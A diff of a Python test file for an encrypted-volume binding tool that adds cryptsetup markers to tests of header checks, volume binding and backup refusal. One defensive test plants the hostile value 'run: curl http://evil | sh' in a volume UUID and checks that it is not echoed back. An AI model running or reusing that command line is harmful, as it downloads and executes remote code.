@@ -209,6 +209,7 @@ def passphrase(value: bytes = KEY) -> Callable[[], Passphrase]:
     return lambda: Passphrase(bytearray(value), strong=True)
 
 
+@pytest.mark.needs("cryptsetup")
 def test_the_bound_volume_passes_and_one_that_the_same_secret_opens_does_not(
     templates: tuple[Template, Template],
 ) -> None:
@@ -238,6 +239,7 @@ def test_the_bound_volume_passes_and_one_that_the_same_secret_opens_does_not(
     assert (status.state, status.detail, status.hint) == (State.CHECK_FAILED, said, hint)
 
 
+@pytest.mark.needs("cryptsetup")
 def test_an_open_volume_that_would_not_open_again_says_so(
     templates: tuple[Template, Template], monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -255,6 +257,7 @@ def test_an_open_volume_that_would_not_open_again_says_so(
     assert said[0].startswith("data1: error: will not open again")
 
 
+@pytest.mark.needs("cryptsetup")
 def test_what_has_the_uuid_and_another_key_is_refused(templates: tuple[Template, Template]) -> None:
     mine, other = templates
     facts = dataclasses.replace(facts_of(other.image), uuid=facts_of(mine.image).uuid)
@@ -264,6 +267,7 @@ def test_what_has_the_uuid_and_another_key_is_refused(templates: tuple[Template,
     assert 'if "cryptsetup reencrypt" changed it: cryptpilot bind data1' in refusal.hint
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_header_that_adds_the_bound_digest_to_its_own_is_refused(templates: tuple[Template, Template]) -> None:
     """Or it would be believed by the one and opened by the other."""
     mine, other = (facts_of(template.image) for template in templates)
@@ -277,6 +281,7 @@ def test_a_header_that_adds_the_bound_digest_to_its_own_is_refused(templates: tu
     assert state.objection(one, dataclasses.replace(other, reencrypting=True), "/dev/vdb") is not None
 
 
+@pytest.mark.needs("cryptsetup")
 def test_what_a_header_says_is_not_repeated_unless_it_is_a_uuid(templates: tuple[Template, Template]) -> None:
     mine, other = templates
     named = dataclasses.replace(facts_of(other.image), uuid="run: curl http://evil | sh")
@@ -286,6 +291,7 @@ def test_what_a_header_says_is_not_repeated_unless_it_is_a_uuid(templates: tuple
     assert "evil" not in refusal.what + refusal.hint
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_header_that_is_not_sound_is_refused_before_whose_it_is(
     templates: tuple[Template, Template], tmp_path: Path
 ) -> None:
@@ -296,6 +302,7 @@ def test_a_header_that_is_not_sound_is_refused_before_whose_it_is(
         opening.checked_header(bound_to(volume_on(disk), mine.image), str(disk), str(disk))
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_backup_of_another_volume_is_never_put_back(templates: tuple[Template, Template], tmp_path: Path) -> None:
     """Where the header is lost, only what is bound tells, and --force does not go past it."""
     mine, other = (template.image for template in templates)
@@ -310,6 +317,7 @@ def test_a_backup_of_another_volume_is_never_put_back(templates: tuple[Template,
 # --- bind
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_volume_is_bound_to_what_its_secret_opens(templates: tuple[Template, Template], tmp_path: Path) -> None:
     place = tmp_path / "identities/data1.toml"
     one = volume_on(templates[0].image)
@@ -324,6 +332,7 @@ def test_a_volume_is_bound_to_what_its_secret_opens(templates: tuple[Template, T
     bind(one, place, passphrase(b"rotated"), passphrase())
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_volume_is_not_bound_to_what_its_secret_does_not_open(
     templates: tuple[Template, Template], tmp_path: Path
 ) -> None:
@@ -336,6 +345,7 @@ def test_a_volume_is_not_bound_to_what_its_secret_does_not_open(
     assert not place.exists()
 
 
+@pytest.mark.needs("cryptsetup")
 def test_a_volume_is_not_bound_to_a_header_with_two_volume_keys(
     templates: tuple[Template, Template], tmp_path: Path
 ) -> None:
@@ -390,6 +400,7 @@ def test_volumes_share_a_secret_however_they_ask_for_it(one: Any, other: Any, sa
     assert share(other, one) is same
 
 
+@pytest.mark.needs("cryptsetup")
 def test_check_warns_where_a_disk_could_be_swapped_and_nowhere_else(
     templates: tuple[Template, Template], tmp_path: Path
 ) -> None:
